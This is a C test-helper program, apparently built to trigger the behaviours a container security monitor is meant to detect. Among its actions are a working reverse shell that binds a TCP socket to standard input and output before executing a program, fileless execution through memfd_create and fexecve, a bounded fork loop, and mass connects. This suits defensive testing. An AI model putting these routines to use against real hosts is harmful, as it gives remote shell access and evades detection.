// SPDX-License-Identifier: Apache-2.0
/*
 * Does one thing that busybox cannot do, by its first argument, so that a test can ask for exactly that in a container:
 *
 *   actor memfd-exec PROGRAM [ARG…]          copy PROGRAM into a memfd and execute that
 *   actor thread-exec PROGRAM [ARG…]         execute PROGRAM from a thread that is not the leader
 *   actor reverse ADDRESS PORT PROGRAM …     connect, make the socket stdin, stdout and stderr, execute PROGRAM
 *   actor connect ADDRESS PORT               connect over TCP, close
 *   actor connect-udp ADDRESS PORT           connect a UDP socket
 *   actor listen PORT                        listen on 0.0.0.0 for one second
 *   actor loop getppid|file|connect MS [PORT] do that as often as possible, print how often
 *   actor reads MS PATH                      open, read and close a file as often as possible, print how often
 *   actor creates MS DIRECTORY [PER-SECOND]  create and delete files with ever new names, print how many
 *   actor execs MS PROGRAM                   vfork and execute PROGRAM as often as possible, print how often
 *   actor fork-bomb COUNT                    fork COUNT children that end at once, print how many there were
 *   actor connect-many COUNT                 connect a UDP socket to COUNT places in 10.0.0.0/8, print how often it worked
 *   actor capability-many COUNT PROGRAM      as COUNT different programs (copies in memory of PROGRAM), run "PROGRAM mount"
 *   actor mount                              try to mount a tmpfs on /
 */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <fcntl.h>
#include <netinet/in.h>
#include <pthread.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/mount.h>
#include <sys/socket.h>
#include <sys/syscall.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

extern char **environ;

static int fail(const char *what)
{
	perror(what);
	return 1;
}

static int memfd_exec(char **argv)
{
	char buffer[65536];
	ssize_t length;
	int from = open(argv[0], O_RDONLY | O_CLOEXEC);
	int memfd = memfd_create("payload", MFD_CLOEXEC);

	if (from < 0 || memfd < 0)
		return fail("memfd");
	while ((length = read(from, buffer, sizeof(buffer))) > 0)
		if (write(memfd, buffer, length) != length)
			return fail("write");
	fexecve(memfd, argv, environ);
	return fail("fexecve");
}

static void *execute(void *argv)
{
	execve(((char **)argv)[0], argv, environ);
	perror("execve");
	_exit(1);
}

static int thread_exec(char **argv)
{
	pthread_t thread;

	if (pthread_create(&thread, NULL, execute, argv) != 0)
		return fail("pthread_create");
	pthread_join(thread, NULL);
	return 1;
}

static int connected(const char *address, const char *port, int type)
{
	struct sockaddr_in6 six = { .sin6_family = AF_INET6, .sin6_port = htons(atoi(port)) };
	struct sockaddr_in four = { .sin_family = AF_INET, .sin_port = htons(atoi(port)) };
	int is_six = strchr(address, ':') != NULL;
	int fd = socket(is_six ? AF_INET6 : AF_INET, type, 0);
	int result;

	inet_pton(AF_INET6, address, &six.sin6_addr);
	inet_pton(AF_INET, address, &four.sin_addr);
	result = is_six ? connect(fd, (struct sockaddr *)&six, sizeof(six)) :
			  connect(fd, (struct sockaddr *)&four, sizeof(four));
	if (result == 0)
		return fd;
	close(fd);
	return -1;
}

static int reverse(char **argv)
{
	int fd = connected(argv[0], argv[1], SOCK_STREAM);

	if (fd < 0)
		return fail("connect");
	for (int i = 0; i < 3; i++)
		dup2(fd, i);
	execve(argv[2], argv + 2, environ);
	return 1;
}

static int listening(const char *port)
{
	struct sockaddr_in address = { .sin_family = AF_INET, .sin_port = htons(atoi(port)) };
	int fd = socket(AF_INET, SOCK_STREAM, 0);
	int one = 1;

	setsockopt(fd, SOL_SOCKET, SO_REUSEADDR, &one, sizeof(one));
	if (bind(fd, (struct sockaddr *)&address, sizeof(address)) != 0 || listen(fd, 4096) != 0)
		return -1;
	return fd;
}

static long now_ms(void)
{
	struct timespec time;

	clock_gettime(CLOCK_MONOTONIC, &time);
	return time.tv_sec * 1000 + time.tv_nsec / 1000000;
}

static void connect_once(int server, const char *port)
{
	struct linger reset = { .l_onoff = 1, .l_linger = 0 };
	int fd = connected("127.0.0.1", port, SOCK_STREAM);

	close(accept(server, NULL, NULL));
	setsockopt(fd, SOL_SOCKET, SO_LINGER, &reset, sizeof(reset));
	close(fd);
}

static int reads(long ms, const char *path)
{
	long end = now_ms() + ms, count = 0;
	char byte;

	do {
		for (int i = 0; i < 64; i++, count++) {
			int fd = open(path, O_RDONLY);

			if (fd < 0 || read(fd, &byte, 1) < 0)
				return fail(path);
			close(fd);
		}
	} while (now_ms() < end);
	printf("%ld\n", count);
	return 0;
}

static int creates(long ms, const char *directory, long per_second)
{
	long start = now_ms(), count = 0, past;
	char path[256];

	while ((past = now_ms() - start) < ms) {
		if (per_second && count > per_second * past / 1000) {
			usleep(500);
			continue;
		}
		for (int i = 0; i < 16; i++, count++) {
			int fd;

			snprintf(path, sizeof(path), "%s/%ld", directory, count);
			fd = open(path, O_WRONLY | O_CREAT | O_EXCL, 0644);
			if (fd < 0 || write(fd, "x", 1) != 1)
				return fail(path);
			close(fd);
			unlink(path);
		}
	}
	printf("%ld\n", count);
	return 0;
}

static int loop(const char *what, long ms, const char *port)
{
	int server = port ? listening(port) : -1;
	long end = now_ms() + ms, count = 0;
	char byte;

	do {
		for (int i = 0; i < 64; i++, count++) {
			if (strcmp(what, "getppid") == 0) {
				syscall(SYS_getppid);
			} else if (strcmp(what, "file") == 0) {
				int fd = open("/etc/hostname", O_RDONLY);

				(void)!read(fd, &byte, 1);
				close(fd);
			} else {
				connect_once(server, port);
			}
		}
	} while (now_ms() < end);
	printf("%ld\n", count);
	return 0;
}

static int execs(long ms, char **argv)
{
	long end = now_ms() + ms, count = 0;

	for (; now_ms() < end; count++) {
		pid_t child = vfork();

		if (child == 0) {
			execve(argv[0], argv, environ);
			_exit(127);
		}
		waitpid(child, NULL, 0);
	}
	printf("%ld\n", count);
	return 0;
}

static int fork_bomb(long count)
{
	long made = 0;

	for (long i = 0; i < count; i++) {
		pid_t child = fork();

		if (child == 0)
			_exit(0);
		if (child < 0)
			continue;
		made++;
		waitpid(child, NULL, 0);
	}
	printf("%ld\n", made);
	return 0;
}

static int connect_many(long count)
{
	struct sockaddr_in address = { .sin_family = AF_INET, .sin_port = htons(5353) };
	int fd = socket(AF_INET, SOCK_DGRAM, 0);
	long made = 0;

	for (long i = 0; i < count; i++) {
		address.sin_addr.s_addr = htonl(0x0a000001 + i);
		/* The hook comes before the route is looked for: an attempt counts without a network. */
		connect(fd, (struct sockaddr *)&address, sizeof(address));
		made++;
	}
	printf("%ld\n", made);
	return 0;
}

static int capability_many(long count, char **argv)
{
	char *arguments[] = { argv[0], "mount", NULL };
	long made = 0;

	for (long i = 0; i < count; i++) {
		char *copy[] = { argv[0], "memfd-exec", argv[0], "mount", NULL };
		pid_t child = fork();

		if (child == 0) {
			close(2);
			execve(arguments[0], copy, environ);
			_exit(127);
		}
		if (child > 0 && waitpid(child, NULL, 0) == child)
			made++;
	}
	printf("%ld\n", made);
	return 0;
}

int main(int argc, char **argv)
{
	const char *what = argc > 1 ? argv[1] : "";

	if (strcmp(what, "memfd-exec") == 0)
		return memfd_exec(argv + 2);
	if (strcmp(what, "thread-exec") == 0)
		return thread_exec(argv + 2);
	if (strcmp(what, "reverse") == 0)
		return reverse(argv + 2);
	if (strcmp(what, "connect") == 0)
		return connected(argv[2], argv[3], SOCK_STREAM) < 0;
	if (strcmp(what, "connect-udp") == 0)
		return connected(argv[2], argv[3], SOCK_DGRAM) < 0;
	if (strcmp(what, "listen") == 0)
		return listening(argv[2]) < 0 || sleep(1);
	if (strcmp(what, "loop") == 0)
		return loop(argv[2], atol(argv[3]), argv[4]);
	if (strcmp(what, "reads") == 0)
		return reads(atol(argv[2]), argv[3]);
	if (strcmp(what, "creates") == 0)
		return creates(atol(argv[2]), argv[3], argc > 4 ? atol(argv[4]) : 0);
	if (strcmp(what, "execs") == 0)
		return execs(atol(argv[2]), argv + 3);
	if (strcmp(what, "fork-bomb") == 0)
		return fork_bomb(atol(argv[2]));
	if (strcmp(what, "connect-many") == 0)
		return connect_many(atol(argv[2]));
	if (strcmp(what, "capability-many") == 0)
		return capability_many(atol(argv[2]), argv + 3);
	if (strcmp(what, "mount") == 0)
		return mount("none", "/", "tmpfs", 0, NULL) ? fail("mount") : 0;
	if (strcmp(what, "true") == 0)
		return 0;
	fprintf(stderr, "actor: unknown action\n");
	return 2;
}
